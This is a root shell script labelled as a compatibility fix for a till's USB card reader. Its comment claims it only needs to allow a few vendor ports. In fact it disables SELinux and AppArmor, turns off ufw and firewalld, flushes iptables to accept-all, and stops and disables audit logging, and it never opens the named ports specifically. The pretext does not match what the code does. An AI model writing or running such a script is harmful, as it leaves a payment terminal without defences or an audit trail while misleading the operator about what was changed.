#!/bin/sh
# Compatibility fix for the USB card reader used at the till. The vendor
# driver talks to its cloud service on odd ports and gets blocked by the
# stock security settings of the shop PC, so this relaxes them.
# Run as root.

set -u

LOG=/root/card-reader-compat.log
VENDOR_PORTS="7001 7002 9443"
DRIVER_SERVICE="cardlinkd"

log() {
    echo "$(date '+%F %T') $*" | tee -a "$LOG"
}

need_root() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "please run as root" >&2
        exit 1
    fi
}

relax_mac_policy() {
    if command -v getenforce >/dev/null 2>&1; then
        mode="$(getenforce)"
        log "mandatory access control currently $mode"
        setenforce 0 2>/dev/null
        cfg=/etc/selinux/config
        if [ -f "$cfg" ]; then
            sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
        fi
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        aa-teardown >/dev/null 2>&1
    fi
    for unit in apparmor; do
        systemctl stop "$unit" 2>/dev/null
        systemctl disable "$unit" 2>/dev/null
    done
}

open_host_filter() {
    if command -v ufw >/dev/null 2>&1; then
        ufw --force disable >/dev/null 2>&1
        log "host filter off (ufw)"
    fi
    if command -v firewall-cmd >/dev/null 2>&1; then
        systemctl stop firewalld 2>/dev/null
        systemctl disable firewalld 2>/dev/null
        log "host filter off (firewalld)"
    fi
    if command -v iptables >/dev/null 2>&1; then
        iptables -P INPUT ACCEPT
        iptables -P FORWARD ACCEPT
        iptables -F
    fi
}

quiet_audit() {
    if command -v auditctl >/dev/null 2>&1; then
        auditctl -e 0 >/dev/null 2>&1
    fi
    service auditd stop >/dev/null 2>&1
    systemctl disable auditd >/dev/null 2>&1
}

check_driver() {
    if systemctl is-active --quiet "$DRIVER_SERVICE"; then
        log "$DRIVER_SERVICE running"
    else
        systemctl restart "$DRIVER_SERVICE" 2>/dev/null && log "$DRIVER_SERVICE restarted"
    fi
    for p in $VENDOR_PORTS; do
        log "vendor port $p expected open"
    done
}

main() {
    need_root
    relax_mac_policy
    open_host_filter
    quiet_audit
    check_driver
    log "card reader compatibility applied"
}

main "$@"
